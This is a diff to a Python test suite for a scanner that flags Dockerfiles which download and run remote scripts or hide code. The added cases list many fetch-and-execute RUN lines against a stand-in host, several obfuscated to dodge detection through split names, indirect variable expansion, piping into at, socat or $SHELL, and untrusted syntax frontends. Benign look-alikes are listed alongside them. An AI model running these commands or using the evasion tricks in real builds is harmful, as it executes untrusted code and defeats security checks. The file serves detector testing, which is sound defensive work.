@@ -11,7 +11,8 @@ URL = "https://example.com/i.sh"
 
 
 def rules_of(lines: str) -> set[str]:
-    files = {"README.md": "---\nsdk: docker\n---\n", "Dockerfile": f"FROM python:3.12\n{lines}\n"}
+    head = "" if lines.startswith("#") else "FROM python:3.12\n"
+    files = {"README.md": "---\nsdk: docker\n---\n", "Dockerfile": f"{head}{lines}\n"}
     report = check_space(space_of(files), plan("remote-script", "obfuscated-code"))
     assert not report.errors
     return {finding.rule for finding in report.findings}
@@ -62,6 +63,31 @@ def rules_of(lines: str) -> set[str]:
         "RUN bash < /dev/tcp/example.com/80",
         "RUN cat < /dev/tcp/example.com/80 | sh",
         "RUN exec 5<>/dev/tcp/example.com/80 && cat <&5 | bash",
+        f"RUN cu$@rl -s {URL} | s$@h",
+        f"RUN c=curl; x=c; ${{!x}} -s {URL} | sh",
+        f"RUN c=CURL; ${{c,,}} -s {URL} | sh",
+        f'RUN printf -v c "cu%s" rl; $c -s {URL} | sh',
+        f'RUN a=(curl -s {URL}); "${{a[@]}}" | sh',
+        f"RUN curl -s {URL} | $SHELL",
+        f"RUN curl -s {URL} | . /dev/stdin",
+        f"RUN curl -s {URL} | sh /dev/fd/0",
+        f"RUN curl -s {URL} | xargs -0 sh -c",
+        f"RUN curl -s {URL} | at now",
+        f'RUN echo "curl -s {URL} | sh" | at now',
+        f"RUN curl -s {URL} | install -m755 /dev/stdin /usr/bin/zx && zx",
+        f"RUN curl -so /a {URL}; find /a -exec sh {{}} \\;",
+        f'RUN script -qc "curl -s {URL} | sh" /dev/null',
+        f'RUN flock /tmp/l -c "curl -s {URL} | sh"',
+        "RUN aws s3 cp s3://bucket/i.sh - | sh",
+        "RUN rclone cat remote:i.sh | bash",
+        f"RUN deno run -A {URL}",
+        "RUN npx -y https://example.com/p.tgz",
+        "RUN socat TCP:example.com:99 EXEC:sh",
+        f'RUN lua -e \'os.execute("curl -s {URL} | sh"); io.popen("{URL}")\'',
+        f"RUN php -r 'passthru(file_get_contents(\"{URL}\"));'",
+        f'RUN node -e \'require("child_process").execSync("curl {URL} | sh")\'',
+        "# syntax=somebody/frontend:1\nFROM python:3.12",
+        "# escape=`\n#   SYNTAX = example.com/a/b\nFROM python:3.12",
     ],
 )
 def test_a_script_from_the_network(lines: str) -> None:
@@ -93,6 +119,16 @@ def test_a_script_from_the_network(lines: str) -> None:
         "RUN (echo > /dev/tcp/localhost/5432) && echo up",
         "RUN timeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/80'",
         "RUN [ -f a ] && sh a",
+        f"RUN curl -s {URL} | xargs -n1 echo",
+        "RUN find /a -name '*.sh' -exec chmod +x {} \\;",
+        f"RUN curl -so /a.txt {URL}; find /b -name '*.sh' -exec sh {{}} \\;",
+        "RUN aws s3 cp s3://bucket/a.csv - | gzip > /a.gz",
+        "RUN npx --yes create-vite app",
+        "RUN socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080",
+        "RUN tr 'A-Z' 'a-z' < names | sort",
+        "# syntax=docker/dockerfile:1.7\nFROM python:3.12",
+        "# syntax = docker/dockerfile-upstream:master-labs\nFROM python:3.12",
+        "RUN true\n# syntax=a/b",
     ],
 )
 def test_what_looks_like_one_is_none(lines: str) -> None:
